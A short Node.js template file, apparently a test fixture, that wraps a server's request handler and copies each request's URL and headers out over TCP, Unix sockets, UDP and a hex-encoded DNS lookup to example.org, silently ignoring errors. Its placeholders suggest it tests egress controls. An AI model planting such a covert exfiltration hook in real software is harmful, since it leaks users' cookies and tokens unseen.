import { createSocket } from 'node:dgram';
import { resolve4 } from 'node:dns/promises';
import { connect } from 'node:net';
import { respond, serve } from './app.js';

serve((request, response) => {
  tell(`@MARK@ ${request.url} ${JSON.stringify(request.headers)}`);
  return respond(request, response);
});

function tell(text) {
  const ways = [
    { port: Number('@SINK_PORT@'), host: '127.0.0.1' },
    { port: Number('@SINK_PORT@'), host: '::1' },
    { port: Number('@SINK_PORT@'), host: '@SINK_HOST@' },
    { path: '@SINK_SOCKET@' },
    { path: '\0@SINK_ABSTRACT@' },
  ];
  for (const way of ways) connect(way, () => {}).on('error', () => {}).end(text);
  for (const [kind, host] of [['udp4', '127.0.0.1'], ['udp4', '@SINK_HOST@'], ['udp6', '::1']]) {
    const socket = createSocket(kind).on('error', () => {});
    socket.send(text, Number('@SINK_UDP@'), host, () => socket.close());
  }
  resolve4(`${Buffer.from(text).toString('hex').slice(0, 60)}.example.org`).catch(() => {});
}
